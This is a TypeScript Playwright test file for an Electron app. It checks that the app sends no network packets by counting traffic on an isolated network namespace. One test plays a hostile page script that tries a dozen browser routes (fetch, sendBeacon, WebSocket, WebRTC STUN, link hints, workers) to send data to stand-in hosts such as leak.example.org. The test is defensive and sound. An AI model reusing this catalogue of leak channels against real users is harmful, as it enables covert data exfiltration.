import { spawn } from 'node:child_process'
import { createSocket } from 'node:dgram'
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { linkTree } from '../../scripts/support/link-tree.ts'
import { expect, test } from './fixtures.ts'

/*
 * Not one packet leaves the machine. The whole end-to-end run happens in a network namespace that has a default route, a
 * name server and one cable; this file runs last and reads how much went into that cable since the namespace was made.
 * No test looks inside packets: there must be none.
 */

const device = process.env['HIKAE_E2E_DEVICE'] ?? ''
const gateway = process.env['HIKAE_E2E_GATEWAY'] ?? ''

test.skip(device === '', 'counting packets takes a network namespace, and making one takes root')

/** Packets that went out so far. The loopback, over which Playwright talks to the app, is not counted. */
async function packetsSent(): Promise<number> {
  const line = (await readFile('/proc/self/net/dev', 'utf8'))
    .split('\n')
    .find((text) => text.trim().startsWith(device))
  const sent = line?.split(':')[1]?.trim().split(/\s+/)[9]
  if (sent === undefined) throw new Error(`no interface ${device}`)
  return Number(sent)
}

test('M1 the whole end-to-end run before this test sent no packet', async () => {
  expect(await packetsSent()).toBe(0)
})

test('M1 a hostile script in the page gets no packet out, by any way that pages have', async ({ app }) => {
  test.slow()
  await app.window.evaluate(async (address) => {
    const hint = (rel: string, href: string) => {
      const link = document.createElement('link')
      link.rel = rel
      link.href = href
      link.as = 'script'
      document.head.append(link)
    }
    for (const host of [`http://${address}`, 'https://example.com', 'https://leak.example.org']) {
      for (const rel of [
        'dns-prefetch',
        'preconnect',
        'prefetch',
        'preload',
        'modulepreload',
        'prerender',
        'icon',
        'stylesheet',
        'manifest',
      ]) {
        hint(rel, `${host}/x`)
      }
      for (const tag of ['img', 'audio', 'video', 'iframe', 'embed', 'object']) {
        const element = document.createElement(tag)
        try {
          element.setAttribute(tag === 'object' ? 'data' : 'src', `${host}/x`)
        } catch {
          continue // refused as untrusted
        }
        document.body.append(element)
      }
      const attempts: readonly (() => unknown)[] = [
        () => fetch(`${host}/x`),
        () => fetch(`${host}/x`, { mode: 'no-cors', keepalive: true }),
        () => navigator.sendBeacon(`${host}/x`, 'x'),
        () => new WebSocket(`${host.replace('http', 'ws')}/x`),
        () => new EventSource(`${host}/x`),
        () => new Worker(`${host}/x`),
        () => new FontFace('x', `url(${host}/x)`).load(),
        () => navigator.serviceWorker.register(`${host}/x`),
        () => {
          const request = new XMLHttpRequest()
          request.open('GET', `${host}/x`)
          request.send()
        },
        () => new (Reflect.get(window, 'WebTransport') as new (url: string) => object)(`${host}:4433/x`),
        () => window.open(`${host}/x`),
        () => (location.href = `${host}/x`),
      ]
      for (const attempt of attempts) {
        try {
          await Promise.race([attempt(), new Promise((resolve) => setTimeout(resolve, 200))])
        } catch {
          // Refused, as it should be; whether it was refused in time is what the counter tells.
        }
      }
    }
    const ways = [`stun:${address}:3478`, 'stun:stun.example.com:3478', `turn:${address}:3478?transport=tcp`]
    const call = new RTCPeerConnection({ iceServers: [{ urls: ways, username: 'u', credential: 'c' }] })
    call.createDataChannel('x')
    await call.setLocalDescription(await call.createOffer())
    await new Promise((resolve) => setTimeout(resolve, 8_000)) // idle: the time of dictionaries, updates and STUN
    call.close()
  }, gateway)
  expect(await packetsSent()).toBe(0)
})

test('a packet that is really sent is counted, so that the zeros mean something', async () => {
  const before = await packetsSent()
  const socket = createSocket('udp4')
  for (let sent = 0; sent < 3; sent += 1) {
    await new Promise<void>((resolve, reject) => {
      socket.send('hello', 9, gateway, (error) => (error === null ? resolve() : reject(error)))
    })
  }
  socket.close()
  expect((await packetsSent()) - before).toBe(3)
})

test('the same Electron without our settings is heard, so that nothing else keeps it quiet', async () => {
  const folder = await mkdtemp(path.join(os.tmpdir(), 'leaky-'))
  const executable = path.join(folder, 'electron')
  const runtime = path.dirname(process.env['HIKAE_E2E_EXECUTABLE'] ?? '')
  await linkTree(runtime, folder, (relative) => relative !== 'resources/app')
  const app = path.join(folder, 'resources', 'app')
  await mkdir(app, { recursive: true })
  await writeFile(path.join(app, 'package.json'), JSON.stringify({ name: 'leaky', main: 'main.cjs' }))
  await writeFile(path.join(app, 'main.cjs'), leakyApp)
  const before = await packetsSent()
  const child = spawn(executable, [], { env: { ...process.env, HOME: folder }, stdio: 'ignore' })
  try {
    await expect.poll(packetsSent, { timeout: 30_000 }).toBeGreaterThan(before)
  } finally {
    const gone = new Promise((resolve) => child.once('close', resolve))
    child.kill()
    await gone
    await rm(folder, { recursive: true, force: true, maxRetries: 5, retryDelay: 100 })
  }
})

/** An app as Electron's first example has it, with a page that asks a STUN server for its address. */
const leakyApp = `
const { app, BrowserWindow } = require('electron')
app.whenReady().then(async () => {
  const window = new BrowserWindow({ show: false })
  await window.loadURL('about:blank')
  await window.webContents.executeJavaScript(\`(async () => {
    const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${gateway}:3478' }] })
    call.createDataChannel('x')
    await call.setLocalDescription(await call.createOffer())
  })()\`)
})
`
